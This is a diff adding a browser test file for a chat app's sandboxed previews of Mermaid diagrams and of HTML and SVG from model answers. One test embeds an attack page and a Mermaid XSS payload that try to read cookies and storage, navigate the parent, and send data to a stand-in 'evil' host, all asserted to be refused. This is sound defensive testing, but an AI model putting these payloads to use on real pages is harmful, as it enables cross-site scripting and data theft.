@@ -1,0 +1,258 @@
+// Diagrams and previews: what a model wrote, in a document that reaches nothing. R: R4
+
+import { createServer } from "node:http";
+import type { AddressInfo } from "node:net";
+import type { Frame, Page } from "playwright-core";
+import { afterAll, beforeAll, expect, test } from "vitest";
+import { Visitor } from "../browser.ts";
+import { House } from "../house.ts";
+import { Server } from "../server.ts";
+
+const DIAGRAMS = `A flow:
+
+\`\`\`mermaid
+flowchart LR
+  A[Question] --> B{Tool?}
+  B -->|yes| C[Run it]
+  B -->|no| D[Answer]
+  C --> D
+\`\`\`
+
+A sequence:
+
+\`\`\`mermaid
+sequenceDiagram
+  participant P as Person
+  participant T as Throughline
+  P->>T: Ask
+  T-->>P: Answer
+\`\`\`
+
+None:
+
+\`\`\`mermaid
+flowchart LR
+  A --> --> B [
+\`\`\`
+`;
+const CLOCK = `<!doctype html>
+<html><head><style>body{font-family:sans-serif;padding:20px}h1{color:rebeccapurple}</style></head>
+<body><h1>Counter</h1><p>Clicked <b id="n">0</b> times</p><button>Click</button>
+<script>let n = 0; document.querySelector("button").onclick = () => { document.getElementById("n").textContent = ++n; };</script>
+</body></html>`;
+const CIRCLE = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 200 100"><circle cx="60" cy="50" r="40" fill="teal"/><rect x="110" y="15" width="70" height="70" fill="orange"/></svg>`;
+const fenced = (language: string, text: string) => `\`\`\`${language}\n${text}\n\`\`\`\n`;
+
+/** Somebody who waits for a connection, and never gets one. */
+const visits: string[] = [];
+const outside = createServer((request, response) => {
+  visits.push(request.url ?? "");
+  response.end();
+});
+beforeAll(() => new Promise<void>((done) => outside.listen(0, "127.0.0.1", done)));
+afterAll(() => new Promise((done) => outside.close(done)));
+const evil = () => `http://127.0.0.1:${(outside.address() as AddressInfo).port}`;
+
+/** Everything that a document might try, with what came of it in its own text. */
+const attack = (host: string) => `<!doctype html><title>x</title>
+<link rel=stylesheet href="${host}/style"><link rel=preload as=image href="${host}/preload"><link rel=prefetch href="${host}/prefetch">
+<script src="${host}/script"></script><img src="${host}/image"><iframe src="${host}/frame"></iframe><object data="${host}/object"></object>
+<form action="${host}/form" method=post><input name=a></form><style>@import url(${host}/import);body{background:url(${host}/background)}</style>
+<p id=log></p><script>
+const log = (name, value) => { document.getElementById("log").textContent += name + "=" + value + ";"; };
+const tried = (name, act) => { try { log(name, act()); } catch (error) { log(name, "refused"); } };
+tried("parent", () => parent.document.body.tagName);
+tried("storage", () => localStorage.length);
+tried("cookie", () => document.cookie);
+tried("opener", () => parent.location.href);
+tried("top", () => { top.location.href = "${host}/top"; return "went"; });
+tried("origin", () => origin);
+tried("popup", () => String(open("${host}/popup")));
+tried("worker", () => { new Worker("${host}/worker"); return "begun"; });
+tried("socket", () => { new WebSocket("${host.replace("http", "ws")}/socket"); return "begun"; });
+tried("beacon", () => navigator.sendBeacon("${host}/beacon"));
+document.forms[0].submit();
+fetch("${host}/fetch").then(() => log("fetch", "went"), () => log("fetch", "refused"));
+fetch("/v1/me").then(() => log("own", "went"), () => log("own", "refused"));
+import("${host}/module").then(() => log("module", "went"), () => log("module", "refused"));
+const request = new XMLHttpRequest(); request.onerror = () => log("xhr", "refused"); request.open("GET", "${host}/xhr"); request.send();
+</script>`;
+const leaving = (host: string) =>
+  `<meta http-equiv=refresh content="0;url=${host}/refresh"><script>location.href = "${host}/location";</script><a href="${host}/link">x</a>`;
+const diagramAttack = (host: string) => `flowchart LR
+  A["<img src=${host}/label onerror=alert(1)>"] --> B["<script>parent.document.title='evil'</script>"]
+  click A href "${host}/click" "x"
+  click B call alert(1)
+  style A fill:url(${host}/fill)
+`;
+const FOREVER = "<p>before</p><script>for (;;);</script>";
+
+const house = House.of(() =>
+  Server.scripted([
+    { when: { contains: "diagrams", step: 1 }, does: [{ say: DIAGRAMS }] },
+    {
+      when: { contains: "previews", step: 1 },
+      does: [{ say: fenced("html", CLOCK) + fenced("svg", CIRCLE) }],
+    },
+    { when: { contains: "forever", step: 1 }, does: [{ say: fenced("html", FOREVER) }] },
+    { does: [{ say: "Nothing." }] },
+  ]),
+);
+
+/** The document in a frame of this kind. */
+async function documentIn(page: Page, kind: string, at = 0): Promise<Frame> {
+  const element = await page.locator(`iframe[data-kind=${kind}]`).nth(at).elementHandle();
+  const frame = await element?.contentFrame();
+  if (!frame) throw new Error(`no document in ${kind}`);
+  return frame;
+}
+
+// R: U1
+test("diagrams are drawn in frames of their own, with the source one click away", async () => {
+  for (const width of [1280, 390]) {
+    const somebody = await house.visitor({ width, height: 1300 });
+    const { page } = somebody;
+    await somebody.say("diagrams");
+    await somebody.settled();
+    const answer = page.locator(".markdown").last();
+    await answer.locator(".code-note").waitFor();
+    expect(await answer.locator(".code-note").innerText()).toContain("couldn't be drawn");
+    expect(await answer.locator("pre").innerText()).toContain("A --> -->");
+    for (const at of [0, 1]) await (await documentIn(page, "diagram", at)).locator("svg").waitFor();
+    expect(await answer.locator("iframe").count()).toBe(2);
+    const sandbox = await answer
+      .locator("iframe")
+      .evaluateAll((all) => all.map((one) => one.getAttribute("sandbox")));
+    expect(sandbox).toEqual(["allow-scripts", "allow-scripts"]);
+    await expect
+      .poll(() =>
+        answer
+          .locator("iframe")
+          .nth(1)
+          .evaluate((one) => one.clientHeight),
+      )
+      .toBeGreaterThan(170);
+    for (const theme of ["light", "dark"] as const) {
+      await somebody.inTheme(theme);
+      for (const at of [0, 1]) await (await documentIn(page, "diagram", at)).locator("svg").waitFor();
+      expect(await somebody.violations()).toEqual([]);
+      await somebody.picture(`diagrams-${width}-${theme}`);
+    }
+    await answer.getByRole("button", { name: "Diagram" }).first().click();
+    expect(await answer.locator("pre").first().innerText()).toContain("A[Question]");
+    expect(await answer.locator("iframe").count()).toBe(1);
+  }
+});
+
+test("HTML and SVG are shown beside their code when somebody asks for it", async () => {
+  for (const width of [1280, 390]) {
+    const somebody = await house.visitor({ width, height: 1300 });
+    const { page } = somebody;
+    await somebody.say("previews");
+    await somebody.settled();
+    const answer = page.locator(".markdown").last();
+    expect(await answer.locator("iframe").count()).toBe(0);
+    for (const at of [0, 1]) await answer.getByRole("button", { name: "Preview" }).nth(at).click();
+    const inner = await documentIn(page, "html");
+    await inner.getByRole("button", { name: "Click" }).click();
+    expect(await inner.locator("#n").innerText()).toBe("1");
+    await (await documentIn(page, "svg")).locator("circle").waitFor();
+    expect(await answer.locator("pre").count()).toBe(2);
+    for (const theme of ["light", "dark"] as const) {
+      await somebody.inTheme(theme);
+      expect(await somebody.violations()).toEqual([]);
+      await somebody.picture(`previews-${width}-${theme}`);
+    }
+  }
+});
+
+test("nothing in a frame reaches the page, its storage or a network", async () => {
+  const server = await house.own(
+    Server.scripted([
+      { when: { contains: "document", step: 1 }, does: [{ say: fenced("html", attack(evil())) }] },
+      { when: { contains: "leave", step: 1 }, does: [{ say: fenced("html", leaving(evil())) }] },
+      { when: { contains: "diagram", step: 1 }, does: [{ say: fenced("mermaid", diagramAttack(evil())) }] },
+      { does: [{ say: "Nothing." }] },
+    ]),
+  );
+  // The policy complains of all that is tried: nobody of the house.
+  const somebody = await Visitor.come();
+  const { page } = somebody;
+  page.on("dialog", () => visits.push("dialog"));
+  await page.goto(`${server.url}/#token=${await server.key()}`);
+  await somebody.say("document");
+  await somebody.settled();
+  await page.getByRole("button", { name: "Preview", exact: true }).click();
+  const inner = await documentIn(page, "html");
+  const log = inner.locator("#log");
+  for (const name of ["fetch", "own", "module", "xhr"])
+    await expect.poll(() => log.innerText()).toContain(`${name}=refused`);
+  const said = await log.innerText();
+  for (const name of ["parent", "storage", "cookie", "opener", "top"])
+    expect(said).toContain(`${name}=refused`);
+  expect(said).toContain("origin=null");
+  expect(said).toContain("popup=null");
+
+  await somebody.say("leave");
+  await somebody.settled();
+  await page.getByRole("button", { name: "Preview", exact: true }).last().click();
+  // Where it would go is refused by the page's policy; the browser shows a page of its own in its place.
+  await expect
+    .poll(
+      () => page.frames().filter((one) => one !== page.mainFrame() && /^chrome-error/.test(one.url())).length,
+    )
+    .toBeGreaterThan(0);
+
+  await somebody.say("draw a diagram");
+  await somebody.settled();
+  // Mermaid draws it without what is harmful in it, or refuses all of it: the page says so.
+  await expect
+    .poll(async () => {
+      if ((await page.locator(".code-note").count()) > 0) return "refused";
+      const frame = page.frames().find((one) => one.url().endsWith("/frames/diagram.html"));
+      return (await frame?.evaluate(() => document.querySelector("#diagram svg") !== null).catch(() => false))
+        ? "drawn"
+        : "";
+    })
+    .not.toBe("");
+
+  expect(page.url()).toMatch(new RegExp(`^${server.url}/`));
+  expect(await page.title()).not.toContain("evil");
+  expect(visits).toEqual([]);
+  await somebody.leave();
+});
+
+test("a document that never ends leaves the page alone, and is closed", async () => {
+  const somebody = await house.visitor();
+  const { page } = somebody;
+  await somebody.say("forever");
+  await somebody.settled();
+  const preview = page.getByRole("button", { name: "Preview", exact: true });
+  await preview.click();
+  await page.locator("iframe[data-kind=html]").waitFor();
+  await page.locator("textarea").first().fill("still here");
+  expect(await page.locator("textarea").first().inputValue()).toBe("still here");
+  await preview.click();
+  expect(await page.locator("iframe").count()).toBe(0);
+});
+
+test("only the documents for frames may be framed, and nothing in them may be fetched", async () => {
+  for (const [path, policy, framing] of [
+    [
+      "/frames/preview.html",
+      "sandbox allow-scripts; default-src 'none'; script-src 'unsafe-inline'",
+      "SAMEORIGIN",
+    ],
+    [
+      "/frames/diagram.html",
+      "sandbox allow-scripts; default-src 'none'; script-src 'unsafe-inline'",
+      "SAMEORIGIN",
+    ],
+    ["/", "default-src 'none'; script-src 'self'", "DENY"],
+    ["/frames/nothing.html", "default-src 'none'; script-src 'self'", "DENY"],
+  ] as const) {
+    const { headers } = await fetch(house.server.url + path);
+    expect(headers.get("content-security-policy")).toContain(policy);
+    expect(headers.get("x-frame-options")).toBe(framing);
+  }
+});
